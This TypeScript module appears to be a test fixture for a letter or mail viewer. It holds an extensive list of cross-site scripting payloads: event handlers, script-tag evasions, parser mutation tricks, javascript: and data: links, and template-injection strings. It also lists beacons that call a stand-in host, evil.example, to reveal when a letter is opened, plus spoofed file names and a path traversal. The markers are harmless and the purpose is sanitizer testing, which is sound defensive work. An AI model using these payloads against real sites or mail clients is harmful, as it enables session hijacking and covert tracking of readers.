/** Whatever runs calls this; the page that shows the letters listens. */
export const RAN = '__ran'
const JS = `${RAN}(1);parent.${RAN}&&parent.${RAN}(1);alert(1)`
const EVIL = 'https://evil.example/x'
const ENCODED = [...JS].map((sign) => `&#${sign.charCodeAt(0)};`).join('')
const HEX = [...JS].map((sign) => `&#x${sign.charCodeAt(0).toString(16)}`).join(';')
const SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><script>${JS}</script></svg>`)
const PAGE = Buffer.from(`<script>${JS}</script>`).toString('base64')

/** Elements that run by an attribute as soon as they stand in a page, or when somebody passes over them. */
const ON_EVENTS = [
  ...[
    'img src=x',
    'img src',
    'image src=x',
    'video src=x',
    'audio src=x',
    'input type=image src=x',
    'object data=x',
    'embed src=x',
  ].map((element) => `<${element} onerror="${JS}">`),
  ...['body', 'svg', 'style', 'iframe', 'link rel=stylesheet href=x', 'script src=x'].map(
    (element) => `<${element} onload="${JS}">`,
  ),
  `<video><source onerror="${JS}"></video>`,
  `<details open ontoggle="${JS}"><summary>x</summary>x</details>`,
  `<input autofocus onfocus="${JS}">`,
  `<select autofocus onfocus="${JS}"><option>x</select>`,
  `<textarea autofocus onfocus="${JS}">x</textarea>`,
  `<div tabindex=0 autofocus onfocus="${JS}">x</div>`,
  `<marquee onstart="${JS}" loop=1 width=0>x</marquee>`,
  `<p style="animation-name:x" onanimationstart="${JS}">x</p><style>@keyframes x{}</style>`,
  `<b onmouseover="${JS}" onpointerenter="${JS}" onclick="${JS}">Наведите</b>`,
  `<b ONCLICK="${JS}" oNmOuSeOvEr="${JS}">x</b>`,
  `<img/src="x"/onerror="${JS}"/>`,
  `<img src="x"onerror="${JS}">`,
  `<img src=x onerror="${ENCODED}">`,
  `<img src=x onerror="${HEX}">`,
  `<img src=x:x onerror&#61;"${JS}">`,
  `<img \n src=x \n onerror\n=\n"${JS}">`,
  `<img src=x onerror='${JS}' title="</p>">`,
  `<svg><animate onbegin="${JS}" attributeName=x dur=1s></svg>`,
  `<svg><set onbegin="${JS}" attributeName=x to=y></svg>`,
  `<math><mi onclick="${JS}" href="javascript:${JS}">x</mi></math>`,
  `<x onclick="${JS}" contenteditable autofocus onfocus="${JS}">x</x>`,
  `<dialog open onclose="${JS}"><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle="${JS}">x</div>`,
]

const SCRIPTS = [
  `<script>${JS}</script>`,
  `<SCRIPT>${JS}</SCRIPT>`,
  `<script src="${EVIL}.js"></script>`,
  `<script src="data:text/javascript,${JS}"></script>`,
  `<script type=module>${JS}</script>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<script\n>${JS}</script\n>`,
  `<script/x>${JS}</script>`,
  `<<script>${JS}//<</script>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><script href="data:text/javascript,${JS}"/></svg>`,
  `<svg><script>&#97;lert(1);${JS}</script></svg>`,
  `<math><script>${JS}</script></math>`,
  `<noscript><p title="</noscript><img src=x onerror='${JS}'>"></noscript>`,
  `<template><script>${JS}</script></template>`,
  `<template shadowrootmode=open><script>${JS}</script><img src=x onerror="${JS}"></template>`,
  `<title><img src=x onerror="${JS}"></title>`,
  `<textarea></textarea><img src=x onerror="${JS}"></textarea>`,
  `<xmp><img src=x onerror="${JS}"></xmp><img src=x onerror="${JS}">`,
  `<!--><img src=x onerror="${JS}">-->`,
  `<!-- --!><img src=x onerror="${JS}"> -->`,
  `<![CDATA[<img src=x onerror="${JS}">]]>`,
  `<?xml version="1.0"?><img src=x onerror="${JS}">`,
  `<!doctype html [<!ENTITY x "<img src=x onerror='${JS}'>">]>&x;`,
  `\u0000<scr\u0000ipt>${JS}</script>`,
  `\ufeff<script>${JS}</script>`,
]

/** Known ways to make one parser see another tree than the next. */
const MUTATIONS = [
  `<svg></p><style><a id="</style><img src=1 onerror='${JS}'>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${JS}'&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${JS}">`,
  `<svg><style>&lt;img src=x onerror='${JS}'&gt;</style></svg>`,
  `<noembed><img src=x onerror="${JS}"></noembed>`,
  `<noframes><img src=x onerror="${JS}"></noframes>`,
  `<iframe><img src=x onerror="${JS}"></iframe>`,
  `<plaintext><img src=x onerror="${JS}">`,
  `<svg><foreignObject><p><img src=x onerror="${JS}"></p></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${JS}"></annotation-xml></math>`,
  `<svg><desc><img src=x onerror="${JS}"></desc></svg>`,
  `<table><caption><svg><style><img src=x onerror="${JS}"></style></svg></caption></table>`,
  `<select><template><img src=x onerror="${JS}"></template></select>`,
  `<p id="a<img src=x onerror='${JS}'>">x</p>`,
  `<a title='"><img src=x onerror="${JS}">'>x</a>`,
  `<a href='x" onmouseover="${JS}'>x</a>`,
  `<b style='x:"</style><img src=x onerror=${RAN}(1)>'>x</b>`,
  `<img alt="\`><img src=x onerror=${RAN}(1)>\`">`,
  `${'<div>'.repeat(600)}<img src=x onerror="${JS}">`,
  `${'<b><table>'.repeat(200)}<img src=x onerror="${JS}">`,
]

const LINKS = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    'javascript&colon;',
    '\u0001javascript:',
    'vbscript:',
  ].map((scheme) => `<a href="${scheme}${JS}">Откройте</a>`),
  `<a href="&#106;avascript:${JS}">x</a>`,
  `<a href="data:text/html;base64,${PAGE}">x</a>`,
  `<a href="blob:${EVIL}">x</a>`,
  `<a href="//evil.example/x" ping="${EVIL}">x</a>`,
  `<a href="https://evil.example" target="_self" rel="opener" download>x</a>`,
  `<svg><a xlink:href="javascript:${JS}"><text>x</text></a></svg>`,
  `<map name=m><area href="javascript:${JS}" shape=default></map><img usemap=#m src=x>`,
  `<form action="javascript:${JS}"><button autofocus>x</button></form>`,
  `<form action="${EVIL}"><input name=a value=b><input type=submit formaction="javascript:${JS}"></form>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<iframe srcdoc="<script>${JS}</script>"></iframe>`,
  `<object data="javascript:${JS}"></object>`,
  `<embed src="data:text/html;base64,${PAGE}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${JS}">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}/"><a href="y">x</a><img src="z.png">`,
]

/** Whatever would tell somebody that the letter was opened. */
const CALLS_HOME = [
  `<img src="${EVIL}.png">`,
  `<img src="//evil.example/x.png">`,
  `<img srcset="${EVIL}.png 1x, ${EVIL}2.png 2x">`,
  `<picture><source srcset="${EVIL}.png"><img src="${EVIL}.png"></picture>`,
  `<img src="data:image/svg+xml;base64,${SVG.toString('base64')}">`,
  `<img data-remote="${EVIL}.png" data-picture="x" src="/letter-sheet">`,
  `<div style="background:url(${EVIL}.png)">x</div>`,
  `<div style="background-image:url('${EVIL}.png')">x</div>`,
  `<div style="list-style:url(${EVIL}.png)">x</div>`,
  `<div style="content:url(${EVIL}.png)">x</div>`,
  `<div style="cursor:url(${EVIL}.png),auto">x</div>`,
  `<div style="color:red;b\\61 ckground:\\75 rl(${EVIL}.png)">x</div>`,
  `<div style="width:expression(${RAN}(1))">x</div>`,
  `<div style="-moz-binding:url(${EVIL})">x</div>`,
  `<div style="font-family:'x';src:url(${EVIL}.woff)">x</div>`,
  `<style>@import url(${EVIL}.css);body{background:url(${EVIL}.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}.woff)}*{font-family:x}</style>`,
  `<link rel=stylesheet href="${EVIL}.css">`,
  `<link rel=prefetch href="${EVIL}"><link rel=dns-prefetch href="//evil.example"><link rel=preload as=image href="${EVIL}.png">`,
  `<table background="${EVIL}.png"><tr><td background="${EVIL}.png">x</table>`,
  `<body background="${EVIL}.png">x`,
  `<video poster="${EVIL}.png" src="${EVIL}.mp4" autoplay></video>`,
  `<audio src="${EVIL}.mp3" autoplay></audio>`,
  `<video><track src="${EVIL}.vtt" default></video>`,
  `<input type=image src="${EVIL}.png">`,
  `<iframe src="${EVIL}"></iframe>`,
  `<object data="${EVIL}.swf"></object><embed src="${EVIL}.swf">`,
  `<svg><image href="${EVIL}.png" xlink:href="${EVIL}.png"/></svg>`,
  `<svg><use href="${EVIL}.svg#x"/></svg>`,
  `<svg><filter><feImage href="${EVIL}.png"/></filter></svg>`,
  `<math href="${EVIL}">x</math>`,
  `<bgsound src="${EVIL}.mp3"><isindex action="${EVIL}">`,
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<applet code="${EVIL}.class"></applet>`,
]

export const BODIES: readonly string[] = [...ON_EVENTS, ...SCRIPTS, ...MUTATIONS, ...LINKS, ...CALLS_HOME]

const IN_WORDS = [
  `<script>${JS}</script>`,
  `<img src=x onerror=${RAN}(1)>`,
  `"><img src=x onerror="${JS}">`,
  `'><svg onload=${RAN}(1)>`,
  `</title><script>${JS}</script>`,
  `</textarea><img src=x onerror=${RAN}(1)>`,
  `javascript:${JS}`,
  `{{constructor.constructor('${RAN}(1)')()}}`,
  `\${${RAN}(1)}`,
  `<%= ${RAN}(1) %>`,
  `{% raw %}<script>${RAN}(1)</script>`,
  `&lt;script&gt;${RAN}(1)&lt;/script&gt;`,
  `\\u003cscript\\u003e${RAN}(1)\\u003c/script\\u003e`,
  `<a href="javascript:${RAN}(1)">x</a>`,
  `x' onerror='${RAN}(1)`,
  `https://evil.example/"onmouseover="${RAN}(1)`,
  `__proto__`,
  `constructor`,
  `\u202egpj.exe`,
  `<iframe srcdoc="<script>${RAN}(1)</script>">`,
]

export const SUBJECTS: readonly string[] = IN_WORDS
export const NAMES: readonly string[] = IN_WORDS
export const FILE_NAMES: readonly string[] = [
  ...IN_WORDS.map((words) => `${words}.html`),
  `${IN_WORDS[0]}.svg`,
  '..\\..\\x.html',
]
/** What the files hold: each of it would run if a browser showed it as a page of ours. */
export const FILE_BYTES = `<html xmlns="http://www.w3.org/1999/xhtml"><script>${JS}</script><img src="${EVIL}.png"/></html>`
